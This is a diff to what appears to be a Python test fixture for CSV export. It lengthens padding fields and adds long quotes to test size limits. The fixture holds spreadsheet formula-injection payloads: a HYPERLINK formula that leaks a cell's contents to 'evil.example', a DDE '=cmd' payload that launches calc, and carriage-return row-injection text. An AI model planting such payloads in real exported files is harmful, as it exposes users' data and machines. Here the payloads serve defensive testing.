@@ -104,14 +104,24 @@ HOSTILE = {
     "id": "hostile",
     "title": '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
     "start": "2024-05",
-    "description": 'first line\rinjected,2024,,,,,,,confirmed\r\n\tand "quoted" text' + "x" * 200_000,
+    # at the length limit; with the long quotes below the sources cell passes csv's 131,072 default
+    "description": 'first line\rinjected,2024,,,,,,,confirmed\r\n\tand "quoted" text' + "x" * 99_000,
     "location": "+1 Main St; Springfield=Yes",
     "actors": ["Smith; Jones", "A=B", "@handle", "-dash"],
     "roles": {"A=B": "host=guest; visitor", "@handle": "=1+1"},
     "tags": ["x;y", "a=b", "'quoted"],
     "sources": [
-        {"url": "https://example.org/a;b=c?d=e;f", "title": "=cmd|' /C calc'!A0", "quote": "-2+3"},
-        {"title": "Seed article; no URL", "publisher": "@News", "published": "2025-01"},
+        {
+            "url": "https://example.org/a;b=c?d=e;f",
+            "title": "=cmd|' /C calc'!A0",
+            "quote": "-2+3" + "q" * 90_000,
+        },
+        {
+            "title": "Seed article; no URL",
+            "publisher": "@News",
+            "published": "2025-01",
+            "quote": "z" * 90_000,
+        },
         "https://example.org/plain",
     ],
 }
